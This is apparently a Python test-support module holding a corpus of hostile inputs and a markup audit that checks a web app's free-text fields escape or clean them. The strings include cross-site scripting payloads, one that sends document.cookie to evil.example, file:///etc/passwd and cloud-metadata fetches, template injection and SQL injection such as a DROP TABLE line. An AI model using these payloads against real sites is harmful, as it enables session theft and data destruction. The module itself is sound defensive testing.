"""The hostile-input corpus and the registry of free-text fields it is posted into.

Later issues extend both: add strings to a category, and register each new free-text
field with ``HostileField`` (how to post a value, where it is shown, plain or rich), or
the free-text fields of one form together with ``HostileForm`` (one post fills them all,
each with a different string). tests/security/test_hostile_inputs.py posts every string
into every field.
"""

import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser

from training_site.input_cleaning import has_control_characters

SCRIPT = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>document.location='https://evil.example/?c='+document.cookie</script>",
    "</textarea><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
]
HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    "<svg onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=# onclick=alert(1)>x</a>",
    '" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)",
]
URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JAVASCRIPT:alert(1)">click</a>',
    '<a href="  javascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
]
SVG_AND_CSS = [
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">cover</p>',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "@import url(https://evil.example/x.css);",
    "expression(alert(1))",
]
TEMPLATES = [
    "{{ 7*7 }}",
    "{% debug %}",
    "{{ request.user.password }}",
    "{% load static %}{% static 'x' %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{settings.SECRET_KEY}}",
]
FETCHES = [
    '<img src="http://169.254.169.254/latest/meta-data/">',
    '<img src="file:///etc/passwd">',
    "<link rel=stylesheet href=file:///etc/passwd>",
    '<object data="file:///etc/passwd"></object>',
    "http://127.0.0.1:6379/",
    "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_INFO",
    '<img src="//evil.example/track.png">',
]
UNICODE = [
    "\u202eevil\u202c txt.exe",
    "Ada\u200bLovelace",
    "\u200f\u200e\u2066RTL\u2069",
    "\ufeffBOM first",
    "Zo\u0308e\u0301 combining",
    "👩🏽‍🏫 teacher 🏳️‍🌈",
    "𝕬𝖑𝖎𝖈𝖊 mathematical",
    "名前 الاسم שם",
    "\U0010ffff last code point",
    "ﷺ ligature ﷽",
]
CONTROL = [
    "nul\x00byte",
    "\x00",
    "bell\x07",
    "escape\x1b[31mred",
    "backspace\x08",
    "vertical\x0btab",
    "form\x0cfeed",
    "del\x7f",
    "line\u2028separator",
    "tab\tand\nnewline\r\n",
]
SQLISH = [
    "' OR '1'='1",
    "'; DROP TABLE accounts_user; --",
    '" OR ""="',
    "1; SELECT pg_sleep(5)",
    "%' AND 1=1 --",
    "\\'; --",
    'NEAR(a b) OR "x" AND (y',
    '* ^ : - + ( ) "',
]
LONG = [
    "A" * 201,
    "B" * 5_000,
    "word " * 2_000,
    "<b>" * 1_000,
    "é" * 3_000,
]

CATEGORIES = {
    "script": SCRIPT,
    "handler": HANDLERS,
    "url": URLS,
    "svg_css": SVG_AND_CSS,
    "template": TEMPLATES,
    "fetch": FETCHES,
    "unicode": UNICODE,
    "control": CONTROL,
    "sqlish": SQLISH,
    "long": LONG,
}
STRINGS: list[str] = [value for values in CATEGORIES.values() for value in values]

# What may never survive into rich text after the cleaner, found by parsing the HTML as a
# browser would (a raw-string check also matched escaped attribute values that only look
# like markup, such as a link whose URL is the text "<img onerror=...>").
DANGEROUS_ELEMENTS = {
    "script",
    "iframe",
    "object",
    "embed",
    "style",
    "svg",
    "math",
    "link",
    "form",
    "base",
    "meta",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcset"}
DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")


class _MarkupAudit(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in DANGEROUS_ELEMENTS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"{tag} {name}=")
            # Browsers ignore whitespace and control characters inside a URL's scheme.
            squashed = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name in URL_ATTRIBUTES and squashed.startswith(DANGEROUS_SCHEMES):
                self.found.append(f"{tag} {name}={value[:30]}")

    handle_startendtag = handle_starttag


def dangerous_markup(html: str) -> list[str]:
    """What in ``html`` a browser would treat as script: a script-capable element, an event
    handler attribute, or a javascript:/data:/vbscript: URL, as parsed (text and escaped
    attribute values that merely look like markup are not counted)."""
    audit = _MarkupAudit()
    audit.feed(html)
    audit.close()
    return audit.found


@dataclass(frozen=True)
class HostileField:
    """A free-text field: ``post(ctx, value)`` sends the value as its form does and
    returns the response; ``show(ctx)`` returns the URL where the value is displayed
    (or None); ``rich`` fields are cleaned HTML, plain ones must come back escaped."""

    name: str
    post: Callable
    show: Callable | None = None
    rich: bool = False
    max_length: int | None = None


@dataclass(frozen=True)
class HostileForm:
    """Several free-text fields of one form, filled in one post with different strings, so
    the corpus reaches every field without a post per (field, string).

    ``post(ctx, values)`` sends ``values`` ({field: [strings]}, ``per_post`` strings for
    each field: rows of an inline formset, blocks of rich text, tags of a tag field) as the
    form does and returns the response. Where a saved post is displayed: ``show(ctx)``, a
    URL to fetch after each post, or ``show_all(ctx)``, URLs fetched once at the end that
    together display everything saved (a listing). ``rich`` names the rich-text fields
    (cleaned HTML, checked where stored by ``stored_rich(ctx)``, which returns every stored
    rich-text value); the others must come back escaped. ``shown_as`` maps a field to how
    its value is displayed when that is not the value itself (a tag field splits at commas
    or spaces), for the shown-as-text check.
    """

    name: str
    fields: tuple[str, ...]
    post: Callable
    show: Callable | None = None
    show_all: Callable | None = None
    rich: frozenset[str] = frozenset()
    stored_rich: Callable | None = None
    shown_as: dict[str, Callable] = field(default_factory=dict)
    per_post: int = 1


def rotations(
    fields: tuple[str, ...], strings: list[str], *, per_post: int = 1
) -> Iterator[dict[str, list[str]]]:
    """Posts that give every field every string at least once: post i gives field j the
    ``per_post`` strings from position (i + j) * per_post on (cyclically), so each field runs
    through the whole list and the fields of one post hold different strings. Strings with
    control characters go in posts of their own: a form carrying one is refused whole (400),
    which would hide what the other fields do."""
    clean = [value for value in strings if not has_control_characters(value)]
    control = [value for value in strings if has_control_characters(value)]
    for group in (clean, control):
        n = len(group)
        for i in range(-(-n // per_post)):
            yield {
                name: [group[((i + j) * per_post + m) % n] for m in range(per_post)]
                for j, name in enumerate(fields)
            }
